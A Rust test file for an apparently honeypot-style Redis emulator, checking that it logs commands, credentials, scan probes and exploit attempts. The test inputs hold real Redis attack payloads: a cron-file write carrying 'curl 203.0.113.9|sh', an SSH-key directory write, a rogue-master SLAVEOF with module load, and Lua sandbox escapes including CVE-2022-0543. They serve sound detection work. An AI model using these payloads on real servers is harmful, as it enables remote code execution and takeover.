//! What is reported.

use decnet_logging::event::{Body, Outcome, Severity};

use super::{Decky, exploit, kinds};

#[tokio::test]
async fn every_argument_vector_is_an_event_with_its_bytes() {
    let mut talk = Decky::empty("7.0.15").connect();
    talk.ask("PING").await;
    talk.send_words(&[b"SET", b"k", b"\x00\xff binary"]).await;
    talk.reply().await;
    talk.ask("NOPE").await;
    let reports = talk.end().await;
    assert_eq!(kinds(&reports), ["command", "session.started", "command", "command"]);
    let Body::Command { command, line, outcome } = &reports[2].body else { panic!() };
    assert_eq!(
        (command.as_str(), line.as_str(), *outcome),
        ("set", r#"SET k "\x00\xff binary""#, Outcome::Accepted)
    );
    assert_eq!(
        reports[2].raw.as_ref().unwrap().0,
        b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$9\r\n\x00\xff binary\r\n"
    );
    assert!(matches!(&reports[3].body, Body::Command { outcome: Outcome::Failed, .. }));
}

#[tokio::test]
async fn logins_are_credentials() {
    let decky = Decky::new("7.0.15", &[("requirepass", "s3cret")]);
    let mut talk = decky.connect();
    talk.ask("AUTH wrong").await;
    talk.ask("AUTH bob also").await;
    talk.ask("HELLO 3 AUTH default s3cret").await;
    let reports = talk.end().await;
    assert_eq!(
        kinds(&reports),
        ["auth.attempt", "auth.attempt", "command", "auth.attempt", "session.started", "scan.probe"]
    );
    let Body::AuthAttempt { credential, outcome } = &reports[1].body else { panic!() };
    assert_eq!((credential.username.as_str(), credential.password.as_deref()), ("bob", Some("also")));
    assert_eq!(*outcome, Outcome::Failed);
    assert_eq!(reports[3].body.severity(), Severity::Error);
    assert!(reports[0].raw.is_some());
}

#[tokio::test]
async fn greetings_alone_are_a_probe() {
    for lines in [&["PING"][..], &["INFO", "CLIENT LIST", "COMMAND COUNT"], &["HELLO 3", "QUIT"]] {
        let mut talk = Decky::empty("7.0.15").connect();
        for line in lines {
            talk.ask(line).await;
        }
        let reports = talk.end().await;
        assert!(
            matches!(&reports.last().unwrap().body, Body::ScanProbe { kind } if kind == "handshake_only")
        );
    }
    for (bytes, wanted) in [
        (&b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\n"[..], "wrong_protocol"),
        (b"*1\r\n!\r\n", "malformed"),
        (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "wrong_protocol"),
        (b"\r\n\r\n", "handshake_only"),
    ] {
        let mut talk = Decky::empty("7.0.15").connect();
        talk.send(bytes).await;
        let reports = talk.end().await;
        let probes: Vec<&Body> =
            reports.iter().map(|report| &report.body).filter(|body| body.kind() == "scan.probe").collect();
        assert!(
            matches!(probes[..], [Body::ScanProbe { kind }] if kind == wanted),
            "{}: {probes:?}",
            bytes.escape_ascii()
        );
    }
}

#[tokio::test]
async fn writing_a_cron_file_is_kept_whole() {
    let mut talk = Decky::empty("6.0.16").connect();
    for line in ["FLUSHALL", "CONFIG SET dir /var/spool/cron/", "CONFIG SET dbfilename root", "SAVE"] {
        if line == "SAVE" {
            talk.send_words(&[b"SET", b"x", b"\n\n*/1 * * * * curl 203.0.113.9|sh\n\n"]).await;
            assert_eq!(talk.reply().await, "+OK\r\n");
        }
        assert_eq!(talk.ask(line).await, "+OK\r\n", "{line}");
    }
    assert_eq!(talk.ask("CONFIG GET dir").await, "*2\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n");
    assert_eq!(
        talk.ask("CONFIG SET dir /no/such/place").await,
        "-ERR Changing directory: No such file or directory\r\n"
    );
    let reports = talk.end().await;
    assert!(exploit(&reports, "redis.write.cron"));
    let upload = reports.iter().find(|report| report.body.kind() == "file.upload").unwrap();
    let Body::FileUpload { name, stored, sha256, artifact, .. } = &upload.body else { panic!() };
    assert_eq!((name.as_str(), *stored, sha256.len()), ("/var/spool/cron/root", true, 64));
    assert_eq!(artifact.as_ref(), Some(sha256));
    let raw = &upload.raw.as_ref().unwrap().0;
    assert!(raw.starts_with(b"REDIS0009") && raw.windows(12).any(|window| window == b"203.0.113.9|"));
    assert!(kinds(&reports).contains(&"state.changed"));
}

#[tokio::test]
async fn release_seven_refuses_protected_parameters_and_reports_the_try() {
    let mut talk = Decky::empty("7.0.15").connect();
    assert_eq!(
        talk.ask("CONFIG SET dir /root/.ssh").await,
        "-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n"
    );
    assert!(exploit(&talk.end().await, "redis.write.ssh_key"));
}

#[tokio::test]
async fn a_rogue_master_is_never_asked() {
    let mut talk = Decky::empty("5.0.7").connect();
    assert_eq!(talk.ask("SLAVEOF 203.0.113.66 21000").await, "+OK\r\n");
    let info = talk.ask("INFO replication").await;
    assert!(info.contains(
        "role:slave\r\nmaster_host:203.0.113.66\r\nmaster_port:21000\r\nmaster_link_status:down\r\n"
    ));
    assert!(talk.ask("ROLE").await.contains("$7\r\nconnect\r\n"));
    assert_eq!(talk.ask("SET a b").await, "-READONLY You can't write against a read only replica.\r\n");
    assert_eq!(
        talk.ask("MODULE LOAD ./exp.so").await,
        "-ERR Error loading the extension. Please check the server logs.\r\n"
    );
    assert_eq!(talk.ask("SLAVEOF NO ONE").await, "+OK\r\n");
    assert_eq!(talk.ask("SET a b").await, "+OK\r\n");
    let reports = talk.end().await;
    assert!(exploit(&reports, "redis.rogue_master") && exploit(&reports, "redis.module_load"));
    assert!(reports.iter().any(|report| matches!(
        &report.body,
        Body::FileDownload { url: Some(url), .. } if url == "redis://203.0.113.66:21000"
    )));
}

#[tokio::test]
async fn ways_out_of_the_script_sandbox_are_exploits() {
    for (script, name) in [
        (
            r#"local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return l()"#,
            "CVE-2022-0543",
        ),
        ("return os.execute('id')", "redis.lua_escape"),
        ("return string.dump(loadstring('x'))", "CVE-2015-4335"),
    ] {
        let mut talk = Decky::empty("6.0.16").connect();
        talk.send_words(&[b"EVAL", script.as_bytes(), b"0"]).await;
        assert!(talk.reply().await.starts_with("-ERR Error running script"));
        assert!(exploit(&talk.end().await, name), "{script}");
    }
}

#[tokio::test]
async fn planted_keys_and_large_values_are_noticed() {
    let decky = Decky::new("7.0.15", &[("keys", "cache")]);
    let mut talk = decky.connect();
    let keys = talk.ask("KEYS *:config").await;
    let key = keys.lines().nth(2).unwrap().to_owned();
    talk.ask(&format!("HGETALL {key}")).await;
    talk.send_words(&[b"SET", b"payload", &vec![b'x'; 100_000]]).await;
    talk.reply().await;
    let reports = talk.end().await;
    assert!(
        reports.iter().any(|report| matches!(&report.body, Body::BaitTouched { bait, .. } if *bait == key))
    );
    let upload = reports.iter().find(|report| report.body.kind() == "file.upload").unwrap();
    assert!(matches!(&upload.body, Body::FileUpload { name, size: 100_000, .. } if name == "payload"));
    assert_eq!((upload.raw.as_ref().unwrap().0.len(), upload.raw_truncated), (65_536, true));
    assert_eq!(upload.raw_len, Some(100_000));
}

#[tokio::test]
async fn a_shut_down_server_comes_back() {
    let identity = crate::testing::identity(
        decnet_core::identity::OsFamily::Linux,
        1,
        &[("redis", "redis", "6.2.7", "")],
    );
    let decky = crate::testing::decky(identity, 1, &[("redis", &[("keys", "none")])]);
    let (clock, hand) = crate::clock::Clock::manual(crate::testing::NOW * 1_000_000);
    let entropy = crate::entropy::Entropy::seeded(decky.identity.seed);
    let host = std::sync::Arc::new(crate::host::Host {
        decky,
        clock,
        entropy,
        limits: Default::default(),
        files: Default::default(),
    });
    let server = std::sync::Arc::from(crate::testing::server(&host, "redis"));
    let decky = Decky { host, server };
    let mut other = decky.connect();
    let old = super::field(&other.ask("INFO server").await, "run_id");
    let mut talk = decky.connect();
    talk.ask("SET a b").await;
    talk.send(b"SHUTDOWN\r\n").await;
    assert_eq!(talk.rest().await, "");
    assert_eq!(other.rest().await, "", "every client is closed");
    assert_eq!(decky.connect().rest().await, "", "nobody is let in meanwhile");
    hand.fetch_add(4_000_000, std::sync::atomic::Ordering::Relaxed);
    let mut talk = decky.connect();
    let info = talk.ask("INFO server").await;
    assert_ne!(super::field(&info, "run_id"), old);
    assert!(super::field(&info, "uptime_in_seconds").parse::<i64>().unwrap() < 4);
    assert_eq!(talk.ask("GET a").await, "$1\r\nb\r\n");
}
